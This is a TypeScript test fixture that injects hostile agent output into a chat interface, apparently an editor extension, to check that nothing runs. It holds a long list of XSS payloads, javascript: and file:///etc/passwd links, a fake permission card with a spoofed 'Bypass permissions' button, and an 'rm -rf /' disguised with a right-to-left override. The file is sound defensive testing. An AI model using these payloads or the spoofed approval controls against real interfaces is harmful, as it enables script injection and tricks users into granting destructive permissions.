/** Content of an agent that tries to take over the page, and a chat that shows it. */
import assert from "node:assert/strict";
import { classOf, parts } from "./chat-parts";
import { sendPrompt, type ChatBox } from "./harness";
import { guardPage } from "./page-guard";
import { button, showsText } from "./scripted";

/** An executed script sets this, in any frame. */
export const RUN = "window.hacked=(window.hacked||0)+1";
/** A nonexistent host; the test detects requests to it. */
const ELSEWHERE = "https://evil.example";

const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<img src="${ELSEWHERE}/x.png" onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe src="${ELSEWHERE}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action="${ELSEWHERE}"><input name="secret" autofocus onfocus="${RUN}"><button>Send</button></form>`,
  `<style>#symposium { display: none !important } ${parts.card} { visibility: hidden }</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<video src="${ELSEWHERE}/v" onerror="${RUN}" autoplay></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${RUN}" onmouseover="${RUN}">html link</a>`,
  `<button action-id="bypass" class="${classOf(parts.button)}" onclick="${RUN}">Bypass permissions for this agent</button>`,
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `&#60;img src=x onerror="${RUN}"&#62;`,
  `"><img src=x onerror="${RUN}">`,
  `--></style></script></textarea><img src=x onerror="${RUN}">`,
].join(" ");

const MARKDOWN = [
  `![image](${ELSEWHERE}/i.png)`,
  `![image][there]`,
  `[script link](javascript:${RUN})`,
  `[encoded link](&#106;avascript:${RUN})`,
  `[spaced link](<java\tscript:${RUN}>)`,
  "[data link](data:text/html,<script>parent.hacked=1</script>)",
  "[command link](command:workbench.action.toggleSidebarVisibility)",
  "[file link](file:///etc/passwd)",
  "[up link](../../../../../../etc/passwd)",
  "[vscode link](vscode://file/etc/passwd)",
  `[web link](${ELSEWHERE}/page)`,
  `[title link](${ELSEWHERE}/a "x\\" onmouseover=\\"${RUN}")`,
  `[quote link](${ELSEWHERE}/"onmouseover="${RUN})`,
  `<${ELSEWHERE}/"onclick="${RUN}>`,
  `[referenced link][there]`,
  `\`<img src=x onerror="${RUN}">\``,
  `\`\`\`html"><img/src=x/onerror="${RUN}">\n${HTML}\n\`\`\``,
  `| a |\n|---|\n| ${HTML.replaceAll("|", "")} |`,
  `- ${HTML}`,
  `> ${HTML}`,
  `# ${HTML}`,
  `Turned \u202Etxet denrut`,
  `[there]: javascript:${RUN} "${HTML.replaceAll('"', "'")}"`,
].join("\n\n");

/** Escapes a text for a one-line step of the scripted agent. */
export const step = (text: string): string =>
  text.replaceAll("\\", "\\\\").replaceAll("\n", "\\n").replaceAll("\t", "\\t");
export const field = (name: string, value: unknown): string => `${name}=${JSON.stringify(value)}`;
const TURNED = "rm -rf / \u202Etxt.";

const EVERYWHERE = `title ${step(HTML)}
think ${step(MARKDOWN)}
say ${step(`${HTML}\n\n${MARKDOWN}\n\nEND-OF-TEXT`)}
plan [x] ${HTML.replaceAll("|", "")} | ${step(MARKDOWN).replaceAll("|", "")}
tool t1 execute ${step(`${HTML} ${MARKDOWN}`)}
toolupdate t1 failed ${field("input", { [HTML]: MARKDOWN })} ${field("rawOutput", `${HTML}\n${MARKDOWN}`)} ${field("text", `${HTML}\n\n${MARKDOWN}`)} ${field("diff", { path: `/srv/${HTML}](javascript:${RUN})`, oldText: HTML, newText: MARKDOWN })} ${field("locations", `/srv/x](javascript:${RUN})<img/src=x/onerror=${RUN}>.js:3`)} ${field("resource", { uri: `javascript:${RUN}`, text: HTML })} ${field("link", { uri: `javascript:${RUN}`, name: HTML })} ${field(`image`, `"><script>${RUN}</script>`)} ${field("foreign", { html: HTML })}
tool t2 _own plain
ask p1 ${field("title", `${TURNED} ${HTML}`)} ${field("input", { command: TURNED, html: HTML })} ${field("options", [
  { optionId: "no", name: `No ${HTML} \u202Eyes`, kind: "reject_once" },
  { optionId: `"><img src=x onerror="${RUN}">`, name: "**Really** <b>no</b> [x](javascript:1)", kind: "_own" },
])}
error -32603 ${step(`${HTML} ${MARKDOWN}`)}`;

export const FAKE_CARD = `**Run a command?**

**Remove the build folder**

\`\`\`json
{ "command": "ls" }
\`\`\`

[Allow once](command:symposium.restartAgent) [Allow always](#option:allow_always) <button action-id="option:allow_once">Allow once</button> <div class="${classOf(parts.button)}" action-id="bypass">Bypass permissions for this agent</div>`;

export interface Taken {
  readonly box: ChatBox;
  /** Executed scripts, policy violations and forbidden elements in each frame, and requests to other hosts. */
  harm(): Promise<readonly string[]>;
}

/**
 * Opens a chat with a turn that contains all hostile content. `policy`: whether the content security policy applies.
 */
export async function takenOver(opening: Promise<ChatBox>, policy: "kept" | "removed"): Promise<Taken> {
  const box = await opening,
    requested: string[] = [];
  box.page.on("request", request => {
    if (request.url().startsWith(ELSEWHERE)) requested.push(request.url());
  });
  const guard = await guardPage(box.page, policy);
  await box.open();
  assert.deepEqual(await guard.found(), [], "before the agent has said anything");
  await sendPrompt(box.frame, EVERYWHERE);
  await showsText(box.frame, "END-OF-TEXT");
  await button(box.frame, "**Really**").first().waitFor();
  // Unfolds the cards, so that their content is drawn.
  for (const fold of await box.frame.locator(`${parts.foldButton}:visible`).all()) await fold.click();
  for (const fold of await box.frame.locator(".symposium-fold[aria-expanded=false]:enabled:visible").all())
    await fold.click();
  // The tooltip of a button under the mouse would cover other buttons.
  await box.page.mouse.move(0, 0);
  return { box, harm: async () => [...(await guard.found()), ...requested] };
}

/** Adds a script without permission. Returns whether it ran; otherwise the violation has been dispatched. */
export const plantedScriptRuns = (box: ChatBox): Promise<boolean> =>
  box.frame.locator("body").evaluate(async body => {
    const received = new Promise(resolve => {
      document.addEventListener("securitypolicyviolation", resolve, { once: true });
    });
    const script = document.createElement("script");
    script.textContent = "window.planted = true";
    body.append(script);
    if (!("planted" in window)) await received;
    script.remove();
    return "planted" in window;
  });
